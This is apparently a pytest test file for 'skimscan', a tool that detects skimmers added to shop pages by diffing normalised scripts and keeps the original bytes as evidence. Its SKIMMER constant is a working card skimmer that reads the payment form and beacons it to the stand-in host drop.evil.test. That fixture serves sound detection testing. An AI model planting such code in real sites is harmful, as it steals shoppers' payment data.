"""Hostile input, change detection (issue: the change drowns in the diff): a skimmer added to a
library must show as the lines it added — with its drop host — not as a renumbering of every
name; and what the browser ran is kept as evidence, byte for byte, in databases old and new.

Real pieces only: the fixture shop's own feature-detection library, static page scans of a shop
served by this test's aiohttp server, real SQLite files (one written as schema 2 had it).
"""

from __future__ import annotations

import asyncio
import hashlib
import sqlite3
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import pytest_asyncio
from aiohttp import web

from skimscan.analyze.parse import parse, run_deep
from skimscan.analyze.printer import Printer
from skimscan.cli import main
from skimscan.inventory.normalize import code_diff, normalize_code
from skimscan.inventory.store import SCHEMA_VERSION, Store

from ..conftest import FIXTURES

LIBRARY = (FIXTURES / "shop" / "sites" / "shop.test" / "static" / "js"
           / "modernizr-2.6.1.min.js").read_text()
# One top-level `var` and a handler that sends the form to a drop host (BA-style, appended).
SKIMMER = """
var skim = {k: 1};
document.getElementById('pay').addEventListener('click', function () {
  var f = document.getElementById('paymentForm'), d = {};
  for (var i = 0; i < f.elements.length; i++) d[f.elements[i].name] = f.elements[i].value;
  navigator.sendBeacon('https://drop.evil.test/c', JSON.stringify(d));
});
"""
PAGE = "http://shop.test/checkout"


def lines(diff: str, sign: str) -> list[str]:
    return [ln for ln in diff.splitlines() if ln.startswith(sign) and not ln.startswith(sign * 3)]


def printed_diff(out: str) -> str:
    """The code diff `skimscan diff` prints under its changed-script line (indented 6)."""
    rest = out[out.index("changed-script:"):].splitlines()[1:]
    taken = [ln[6:] for ln in rest[:next((i for i, ln in enumerate(rest)
                                           if not ln.startswith("      ")), len(rest))]]
    return "\n".join(taken)


def test_an_appended_skimmer_with_a_top_level_var_is_the_whole_diff() -> None:
    before, after = normalize_code(LIBRARY), normalize_code(LIBRARY + SKIMMER)
    diff = code_diff(before.code, after.code)
    assert lines(diff, "-") == []  # nothing of the library is renamed
    added = lines(diff, "+")
    assert len(added) == len(normalize_code(SKIMMER).code.splitlines()) == 9
    assert any("https://drop.evil.test/c" in ln for ln in added)


@pytest.mark.parametrize("inserted", [
    "var k = window.k || 1;\n",  # a top-level binding where there was none
    "function steal(a, b) { var c = a + b; return c; }\nvar q = steal(1, 2);\n",
])
def test_code_added_before_a_function_does_not_rename_its_locals(inserted: str) -> None:
    code = """(function () {
  function pay(form) {
    var data = {};
    for (var i = 0; i < form.elements.length; i++) data[form.elements[i].name] = 1;
    return data;
  }
  document.addEventListener('submit', function (e) { pay(e.target); });
})();
"""
    diff = code_diff(normalize_code(code).code, normalize_code(inserted + code).code)
    assert lines(diff, "-") == [], diff
    assert len(lines(diff, "+")) == len(normalize_code(inserted).code.splitlines())


def test_a_binding_added_to_an_outer_callback_does_not_rename_the_inner_ones() -> None:
    code = """$(function () {
  $('#pay').on('click', function (e) { var n = $('#cc').val(); check(n, e); });
});
"""
    edited = code.replace("$(function () {\n", "$(function () {\n  var x = grab();\n")
    diff = code_diff(normalize_code(code).code, normalize_code(edited).code)
    assert lines(diff, "-") == [] and lines(diff, "+") == ["+  var v2_0 = grab();"]


def test_labels_are_named_per_function() -> None:
    code = "function f(){ a: for(;;) { break a; } }\n"
    diff = code_diff(normalize_code(code).code,
                     normalize_code("b: for(;;) { break b; }\n" + code).code)
    assert lines(diff, "-") == []


# --- through the store: scans of a served page ------------------------------------------------


@dataclass
class Shop:
    library: str
    port: int = 0

    async def page(self, request: web.Request) -> web.Response:
        return web.Response(text='<!doctype html><html><body><form id="paymentForm">'
                                 '<input name="cc"><button id="pay">Pay</button></form>'
                                 '<script src="/js/lib.js?v=3"></script></body></html>',
                            content_type="text/html")

    async def script(self, request: web.Request) -> web.Response:
        return web.Response(body=self.library.encode("utf-8"),
                            content_type="application/javascript", charset="utf-8")

    def argv(self, db: Path) -> list[str]:
        return ["--db", str(db), "--no-browser", "--no-cache", "--map-host",
                f"shop.test=127.0.0.1:{self.port}"]


@pytest_asyncio.fixture
async def shop() -> AsyncIterator[Shop]:
    state = Shop(LIBRARY)
    app = web.Application()
    app.router.add_get("/checkout", state.page)
    app.router.add_get("/js/lib.js", state.script)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    state.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    try:
        yield state
    finally:
        await runner.cleanup()


async def cli(argv: list[str]) -> int:
    """`skimscan …` in a thread, so that this loop's server keeps answering."""
    return await asyncio.to_thread(main, argv)


async def test_the_diff_of_a_scanned_page_shows_the_skimmer_and_its_drop_host(
        shop: Shop, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "inv.db"
    assert await cli(["baseline", PAGE, "--by", "test", *shop.argv(db)]) == 0
    shop.library = LIBRARY + SKIMMER
    capsys.readouterr()
    assert await cli(["diff", PAGE, *shop.argv(db)]) == 1
    diff = printed_diff(capsys.readouterr().out)
    assert lines(diff, "-") == [] and len(lines(diff, "+")) == 9
    assert "https://drop.evil.test/c" in diff


# A script version with what evidence must keep exactly: non-ASCII text, CRLF line ends,
# comments, trailing spaces — none of which the normalised form has.
SERVED = "/* Größe — réglé */\r\nwindow.Modernizr = 1;   \r\n// ¡fin!\r\n" + "var pad = 1;\n" * 300


async def test_the_original_bytes_are_kept_once_and_given_back(
        shop: Shop, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "inv.db"
    shop.library = SERVED
    data = SERVED.encode("utf-8")
    sha = hashlib.sha256(data).hexdigest()
    assert await cli(["baseline", PAGE, "--by", "test", *shop.argv(db)]) == 0
    assert await cli(["diff", PAGE, *shop.argv(db)]) == 0  # scanned again: stored once
    with Store.open(db) as store:
        kept = store.original(sha)
        assert kept is not None and kept.data == data
        assert store.original(sha[:12]) == kept  # the prefix `diff` labels show
    con = sqlite3.connect(db)
    rows = con.execute("SELECT sha256, size, data FROM originals").fetchall()
    assert [(r[0], r[1]) for r in rows] == [(sha, len(data))]
    assert len(rows[0][2]) < len(data) / 4 and zlib.decompress(rows[0][2]) == data
    con.close()
    out = tmp_path / "evidence.js"
    assert await cli(["inventory", "--original", sha[:12], "-o", str(out), "--db", str(db)]) == 0
    assert out.read_bytes() == data
    capsys.readouterr()
    assert await cli(["inventory", "--original", "0" * 12, "-o", str(out), "--db",
                      str(db)]) == 2
    assert "no original text of 000000000000" in capsys.readouterr().err


async def test_a_schema_2_database_upgrades_without_a_false_change(
        shop: Shop, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A baseline normalised by the old scheme (the printer's own renaming), in a schema-2 file:
    re-minified code is still quiet after the upgrade, and the skimmer's diff is still only the
    skimmer."""
    db = tmp_path / "old.db"
    assert await cli(["baseline", PAGE, "--by", "test", *shop.argv(db)]) == 0
    _as_schema_2_with_old_normal_forms(db, LIBRARY)
    with Store.open(db) as store:
        assert store.version == SCHEMA_VERSION and [b.approved_by for b in store.baselines()] \
            == ["test"]
    shop.library = normalize_code(LIBRARY).code  # other names, other layout, same code
    assert normalize_code(shop.library).ast_hash == normalize_code(LIBRARY).ast_hash
    assert await cli(["diff", PAGE, *shop.argv(db)]) == 0  # re-minified: not a change
    shop.library = LIBRARY + SKIMMER
    capsys.readouterr()
    assert await cli(["diff", PAGE, *shop.argv(db)]) == 1
    diff = printed_diff(capsys.readouterr().out)
    assert lines(diff, "-") == [] and len(lines(diff, "+")) == 9
    assert "https://drop.evil.test/c" in diff


def _old_form(code: str) -> str:
    """What skimscan wrote before scope-local names: the shared printer's own renaming."""
    tree = run_deep(lambda: parse(code).tree)
    return str(run_deep(lambda: Printer(tree, rename=True).program()))


def _as_schema_2_with_old_normal_forms(db: Path, code: str) -> None:
    """Turn a current database into what schema 2 wrote: no originals, no outbox, no normaliser
    version, and the normalised form of `code` (and its hash) in the old scheme."""
    con = sqlite3.connect(db, isolation_level=None)
    sha = hashlib.sha256(code.encode("utf-8")).hexdigest()
    old = _old_form(code)
    old_hash = hashlib.sha256(old.encode("utf-8")).hexdigest()
    assert con.execute("UPDATE contents SET normalized = ?, ast_hash = ? WHERE sha256 = ?",
                       (zlib.compress(old.encode("utf-8")), old_hash, sha)).rowcount == 1
    for table in ("scan_scripts", "scripts"):
        con.execute(f"UPDATE {table} SET ast_hash = ? WHERE sha256 = ?", (old_hash, sha))
    columns = {(t, str(r[1])) for t in ("contents", "scans")
               for r in con.execute(f"PRAGMA table_info({t})")}
    for table in ("outbox", "originals", "fleet_runs", "fleet_targets"):  # v3, v4 tables
        con.execute(f"DROP TABLE IF EXISTS {table}")
    for table, column in (("contents", "normalizer"), ("scans", "alerting")):
        if (table, column) in columns:
            con.execute(f"ALTER TABLE {table} DROP COLUMN {column}")
    con.execute("PRAGMA user_version = 2")
    con.close()
